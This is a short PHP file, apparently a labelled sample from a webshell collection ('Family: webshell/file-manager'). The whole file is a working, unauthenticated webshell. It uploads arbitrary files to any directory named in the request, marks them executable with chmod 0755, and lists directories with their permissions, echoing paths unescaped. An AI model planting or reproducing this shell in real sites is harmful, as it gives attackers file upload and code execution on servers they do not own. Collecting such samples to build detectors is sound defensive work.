<?php
// Family: webshell/file-manager
// Style: uploader with chmod
// Trait: upload to a request-chosen directory, chmod 0755, directory listing
$dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
if (!empty($_FILES['f']['name'])) {
	$dest = $dir . '/' . basename($_FILES['f']['name']);
	if (move_uploaded_file($_FILES['f']['tmp_name'], $dest)) { chmod($dest, 0755); echo "uploaded $dest"; }
}
foreach (scandir($dir) as $e) { echo "<a href='?d=$dir/$e'>$e</a> " . substr(sprintf('%o', fileperms("$dir/$e")), -4) . "<br>"; }
?><form method=post enctype=multipart/form-data><input type=file name=f><input type=submit value=Upload></form>
